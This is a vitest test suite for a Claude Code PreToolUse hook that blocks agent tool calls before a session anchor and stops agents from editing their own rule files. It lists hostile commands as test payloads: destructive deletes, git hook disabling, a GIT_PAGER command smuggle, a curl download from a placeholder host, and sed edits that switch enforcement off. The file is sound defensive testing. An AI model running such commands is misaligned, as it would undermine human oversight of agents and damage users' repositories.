import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { claudeHookCommand } from '../../src/setup/claude-settings.js';
import {
  adoptClaudeCode,
  anchorSession,
  bashCall,
  newAgent,
  preToolUse,
  runClaudeHook,
  sessionStartCall,
  shellSession,
  type Agent,
} from '../helpers/claude-hook.js';
import { makeRepo, PROJECT_ROOT, type TempRepo } from '../helpers/git-repo.js';

// Issue 26: the agent boundary, attacked as the issue did it: the exact PreToolUse payloads Claude Code sends,
// fed to the command `hestai init --agent claude-code` wrote into .claude/settings.json. Exit 2 blocks the
// tool call. docs/SECURITY.md ("The agent boundary") has one row per attack here.

function unanchored(): { repo: TempRepo; command: string; agent: Agent; token: string } {
  const repo = makeRepo();
  const { command } = adoptClaudeCode(repo);
  const agent = newAgent('attacker');
  const start = runClaudeHook(repo, command, agent, sessionStartCall());
  expect(start.status, start.stderr).toBe(0);
  return { repo, command, agent, token: shellSession(agent) };
}

describe('deny by default before the anchor (item 1)', () => {
  it('every Bash form of the issue is refused with the one next step, and the tree is unchanged', () => {
    const { repo, command, agent, token } = unanchored();
    for (const form of [
      'echo x 1<> src/app.ts',
      'mkdir -p sub && cd sub && echo x > ../src/app.ts',
      'git clean -fdx',
      'git pull',
      'git config core.hooksPath /dev/null',
      'git config core.hooksPath list',
      'git config alias.x get',
      'git update-ref refs/heads/main HEAD',
      'npm pkg set scripts.test=true',
      'curl -o src/app.ts https://example.invalid/x',
      'tar -xf /tmp/payload.tar',
      'unlink src/app.ts',
      'mkfifo src/fifo',
      'npm test',
      "node -e \"require('fs').writeFileSync('src/app.ts', '')\"",
      'echo "$(touch src/x)"',
      'GIT_PAGER="sh -c \'touch src/x\'" git log',
    ]) {
      const refused = runClaudeHook(repo, command, agent, bashCall(form));
      expect(refused.status, form).toBe(2);
      expect(refused.stderr, form).toMatch(/^hestai: .+ blocked: /);
      // Issue 37: no shell command runs before the anchor; each waits for it.
      expect(refused.stderr, form).toContain(`session ${token} (role implementation-lead) has no valid anchor`);
      expect(refused.stderr, form).toMatch(/^fix: call the MCP tool anchor/m);
    }
    expect(fs.readFileSync(path.join(repo.dir, 'src/app.ts'), 'utf8')).toBe('export const app = 1;\n');
  });

  it('reads go through the read tools, not the shell; the ceremony the fix names passes as a Bash command', () => {
    const { repo, command, agent, token } = unanchored();
    for (const form of [
      'git status && git log --oneline -3 && cat README.md',
      "sed -n '1,5p' src/app.ts",
      'echo draft > /tmp/hestai-outside.txt',
    ]) {
      const refused = runClaudeHook(repo, command, agent, bashCall(form));
      expect(refused.status, form).toBe(2);
      expect(refused.stderr, form).toContain('your read tools (Read, Grep, Glob, LS and the like) stay available');
    }
    // The fix of a refusal names the CLI form of the anchor call: the agent can run it before its anchor.
    const refused = runClaudeHook(repo, command, agent, bashCall('npm test'));
    const cliStep = /— or run (.*) \(then --stage context/.exec(refused.stderr)?.[1];
    expect(cliStep).toContain(`anchor --stage identity --role implementation-lead --token ${token}`);
    const step = runClaudeHook(repo, command, agent, bashCall(cliStep!));
    expect(step.status, step.stderr).toBe(0);
  });

  it('MCP tools other than hestai, unknown tools and PowerShell are refused; the listed reads pass', () => {
    const { repo, command, agent } = unanchored();
    for (const [tool, input] of [
      ['mcp__github__create_or_update_file', { path: 'src/app.ts', content: '' }],
      ['mcp__filesystem__write_file', { path: path.join(repo.dir, 'src/app.ts'), content: '' }],
      ['SomeFutureTool', {}],
      ['PowerShell', { command: 'Set-Content -Path src/app.ts -Value x' }],
      ['PowerShell', { command: 'Remove-Item -Recurse src' }],
      ['PowerShell', { command: 'Get-ChildItem -Recurse | Select-String app' }],
    ] as const) {
      const refused = runClaudeHook(repo, command, agent, preToolUse(tool, input));
      expect(refused.status, tool).toBe(2);
      expect(refused.stderr, tool).toContain('has no valid anchor');
    }
    for (const [tool, input] of [
      ['mcp__hestai__anchor', { stage: 'identity' }],
      ['Read', { file_path: path.join(repo.dir, 'src/app.ts') }],
      ['Grep', { pattern: 'x' }],
    ] as const) {
      expect(runClaudeHook(repo, command, agent, preToolUse(tool, input)).status, tool).toBe(0);
    }
  });

  it('an unknown or MCP tool is a read only once the base policy lists it in agents.read_tools, never by the branch or the worktree', () => {
    const { repo, command, agent } = unanchored();
    const call = (tool: string) => runClaudeHook(repo, command, agent, preToolUse(tool, { path: 'src/app.ts' }));
    const listing =
      'agents:\n  read_tools:\n    - mcp__tracker__get_issue\n    - "mcp__docs__search_*"\n    - SomeFutureTool\n';
    const listed = ['mcp__tracker__get_issue', 'mcp__docs__search_code', 'SomeFutureTool'];
    const unlisted = ['mcp__tracker__create_issue', 'mcp__docs__write', 'mcp__docsx__search_code', 'OtherTool'];
    // Refused by default, and the refusal says where a read would be listed.
    for (const tool of [...listed, ...unlisted]) {
      const refused = call(tool);
      expect(refused.status, tool).toBe(2);
      expect(refused.stderr, tool).toContain('has no valid anchor');
      expect(refused.stderr, tool).toContain('agents.read_tools');
    }
    // The worktree's file (uncommitted) is not the base policy.
    fs.appendFileSync(path.join(repo.dir, '.hestai_workspace.yaml'), listing);
    expect(call('mcp__tracker__get_issue').status).toBe(2);
    // Nor is the branch's own commit of it.
    repo.git(['switch', '-q', '-c', 'feature']);
    repo.git(['commit', '-qam', 'chore: list reads', '--no-verify']);
    expect(call('mcp__tracker__get_issue').status).toBe(2);
    // Once the base (main, this repository has no origin) carries it, the listed tools are reads.
    repo.git(['switch', '-q', 'main']);
    repo.git(['merge', '-q', '--ff-only', 'feature']);
    repo.git(['switch', '-q', 'feature']);
    for (const tool of listed) {
      const read = call(tool);
      expect(read.status, `${tool}: ${read.stderr}`).toBe(0);
    }
    for (const tool of unlisted) expect(call(tool).status, tool).toBe(2);
    // Edits and Bash stay judged as before.
    expect(runClaudeHook(repo, command, agent, preToolUse('Edit', { file_path: 'src/app.ts' })).status).toBe(2);
  });

  it("agents.read_tools that would list Bash or hestai's own tools is a config error naming the key, and refuses", () => {
    const { repo, command, agent, token } = unanchored();
    // Anchored: the workspace config decides only for a valid anchor, so only then is it read (and refused).
    anchorSession(repo, token);
    fs.appendFileSync(path.join(repo.dir, '.hestai_workspace.yaml'), 'agents:\n  read_tools: ["B*"]\n');
    const refused = runClaudeHook(repo, command, agent, preToolUse('mcp__tracker__get_issue', {}));
    expect(refused.status).toBe(2);
    expect(refused.stderr).toContain('agents.read_tools.0');
    expect(refused.stderr).toContain('Bash');
  });

  it('the PreToolUse matcher in .claude/settings.json covers PowerShell, MCP tools and every other tool', () => {
    const repo = makeRepo();
    const { settings } = adoptClaudeCode(repo);
    const matcher = settings.hooks.PreToolUse[0].matcher as string;
    // Claude Code: "*" (or an empty matcher) matches every tool; anything else is a regular expression.
    const matches = (tool: string) => matcher === '*' || matcher === '' || new RegExp(`^(?:${matcher})$`).test(tool);
    for (const tool of ['PowerShell', 'Bash', 'Edit', 'mcp__github__create_issue', 'SomeFutureTool'])
      expect(matches(tool), tool).toBe(true);
  });
});

describe("the rules' own files are never the agent's to write (item 2)", () => {
  it('an anchored agent cannot write the rules through sed -i, perl -i, git checkout, cp, redirections or Edit', () => {
    const { repo, command, agent, token } = unanchored();
    anchorSession(repo, token);
    const home = repo.env['HOME']!;
    fs.mkdirSync(path.join(home, '.claude'), { recursive: true });
    const refused: Array<Record<string, unknown>> = [
      bashCall("sed -i 's/max_age_hours: 24/max_age_hours: 99999/' .hestai_workspace.yaml"),
      bashCall("perl -pi -e 's/enforce: true/enforce: false/' .hestai/protocol.yaml"),
      // Issue 30: a protocol run and the protocol it is sealed against are the rules' own files too.
      bashCall(
        `sed -i 's/"current_phase": "[A-Z_]*"/"current_phase": "END"/' .hestai/sessions/active/${token}/protocol.json`,
      ),
      preToolUse('Write', { file_path: path.join(repo.dir, '.hestai', 'protocol.yaml'), content: 'phases: []\n' }),
      preToolUse('Edit', {
        file_path: path.join(repo.dir, '.hestai', 'sessions', 'active', token, 'protocol.json'),
        old_string: 'a',
        new_string: 'b',
      }),
      bashCall('git checkout -- .hestai_workspace.yaml'),
      bashCall('echo "exit 0" > .git/hooks/pre-commit'),
      bashCall(`cp /tmp/evil ${path.join(PROJECT_ROOT, 'hooks', 'claude-code')}`),
      bashCall('mkdir -p node_modules/hestai-hooks && cp /tmp/evil node_modules/hestai-hooks/x'),
      bashCall('echo "{}" > ~/.claude/settings.json'),
      bashCall('echo "{}" > "$HOME/.claude/settings.json"'),
      bashCall(`echo x > ${path.join(home, '.cache', 'hestai', 'config-x.json')}`),
      bashCall('cd .hestai && echo x > sessions/x.json'),
      bashCall("python3 -c \"open('.hestai_workspace.yaml','w').write('')\""),
      bashCall('rm -rf .hest*'),
      bashCall('rm -rf .{git,hestai}'),
      bashCall('ln .hestai_workspace.yaml notes.yaml'),
      bashCall('unlink .hestai_workspace.yaml && mkfifo .hestai_workspace.yaml'),
      preToolUse('Edit', { file_path: path.join(repo.dir, '.git', 'config'), old_string: 'a', new_string: 'b' }),
      preToolUse('Write', { file_path: path.join(repo.dir, '.hestai-sys', 'agents', 'x.oct.md'), content: '' }),
      preToolUse('Write', { file_path: path.join(repo.dir, '.claude', 'settings.local.json'), content: '{}' }),
      preToolUse('Write', { file_path: path.join(home, '.claude', 'settings.json'), content: '{}' }),
      preToolUse('PowerShell', { command: 'Set-Content -Path .hestai_workspace.yaml -Value x' }),
    ];
    for (const payload of refused) {
      const result = runClaudeHook(repo, command, agent, payload);
      expect(result.status, JSON.stringify(payload)).toBe(2);
      expect(result.stderr, JSON.stringify(payload)).toContain('which agents never write');
    }
    // Through a symbolic link: a directory in the worktree that points into ~/.claude or .git.
    fs.symlinkSync(path.join(home, '.claude'), path.join(repo.dir, 'cfg'));
    fs.symlinkSync(path.join(repo.dir, '.git'), path.join(repo.dir, 'g'));
    fs.symlinkSync(
      path.join(repo.dir, '.git', 'hooks', 'pre-commit'),
      path.join(repo.dir, '.hestai/context/link.oct.md'),
    );
    for (const payload of [
      preToolUse('Write', { file_path: path.join(repo.dir, 'cfg', 'settings.json'), content: '{}' }),
      bashCall('echo x > g/hooks/pre-commit'),
      // An exception's directory (.gemini/tmp/, .hestai/context/) left by `..` or a link, named through a
      // shell variable or an interpreter's code, lands where it really lands.
      bashCall('echo {} > $PWD/.gemini/tmp/../settings.json'),
      bashCall('echo {} > "${PWD}/.gemini/tmp/../settings.json"'),
      bashCall('echo {} > $X/.gemini/tmp/../settings.json'),
      bashCall('echo x > $PWD/.hestai/context/link.oct.md'),
      bashCall('echo x > $X/.hestai/context/link.oct.md'),
      bashCall(`python3 -c "open('.hestai/context/link.oct.md','w').write('x')"`),
    ]) {
      const result = runClaudeHook(repo, command, agent, payload);
      expect(result.status, JSON.stringify(payload)).toBe(2);
      expect(result.stderr, JSON.stringify(payload)).toContain('which agents never write');
    }
    // What stays allowed: ordinary work, a commit whose message names the rules, the context documents.
    for (const payload of [
      bashCall('npm test > out.log'),
      bashCall('git commit -am "docs: explain .hestai_workspace.yaml and .git/hooks"'),
      preToolUse('Edit', {
        file_path: path.join(repo.dir, '.hestai/context/PROJECT-CONTEXT.oct.md'),
        old_string: 'a',
        new_string: 'b',
      }),
      preToolUse('Edit', { file_path: path.join(repo.dir, 'src/app.ts'), old_string: 'a', new_string: 'b' }),
    ]) {
      const result = runClaudeHook(repo, command, agent, payload);
      expect(result.status, `${JSON.stringify(payload)}: ${result.stderr}`).toBe(0);
    }
  });
});

describe('fail closed when the hook cannot judge (item 4)', () => {
  it('a workspace file replaced by a FIFO is a refusal, not a hang', () => {
    const { repo, command, agent, token } = unanchored();
    anchorSession(repo, token);
    const config = path.join(repo.dir, '.hestai_workspace.yaml');
    fs.unlinkSync(config);
    expect(spawnSync('mkfifo', [config]).status).toBe(0);
    const edit = preToolUse('Edit', { file_path: path.join(repo.dir, 'src/app.ts'), old_string: 'a', new_string: 'b' });
    const result = runClaudeHook(repo, command, agent, edit);
    expect(result.status).toBe(2);
    expect(result.stderr).toContain('hestai hook failed');
    expect(result.stderr).toContain('.hestai_workspace.yaml');
    expect(result.stderr).toContain('not a regular file');
  });

  it('a hook command that cannot start (package missing, node missing) blocks with exit 2', () => {
    const repo = makeRepo();
    const agent = newAgent('nostart');
    const edit = preToolUse('Edit', { file_path: path.join(repo.dir, 'src/app.ts'), old_string: 'a', new_string: 'b' });
    const missingPackage = claudeHookCommand({ project: 'node_modules/hestai-hooks/hooks/claude-code' });
    expect(runClaudeHook(repo, missingPackage, agent, edit).status).toBe(2);
    const installed = claudeHookCommand({ absolute: path.join(PROJECT_ROOT, 'hooks', 'claude-code') });
    const noNode = runClaudeHook(repo, installed, agent, edit, { PATH: '/nonexistent' });
    expect(noNode.status).toBe(2);
  });

  it('a payload without hook_event_name refuses a write and lets a read through', () => {
    const { repo, command, agent } = unanchored();
    const edit = { tool_name: 'Edit', tool_input: { file_path: path.join(repo.dir, 'src/app.ts') } };
    const refused = runClaudeHook(repo, command, agent, edit);
    expect(refused.status).toBe(2);
    expect(refused.stderr).toContain('hook_event_name');
    expect(runClaudeHook(repo, command, agent, { tool_name: 'Read', tool_input: { file_path: 'x' } }).status).toBe(0);
  });
});
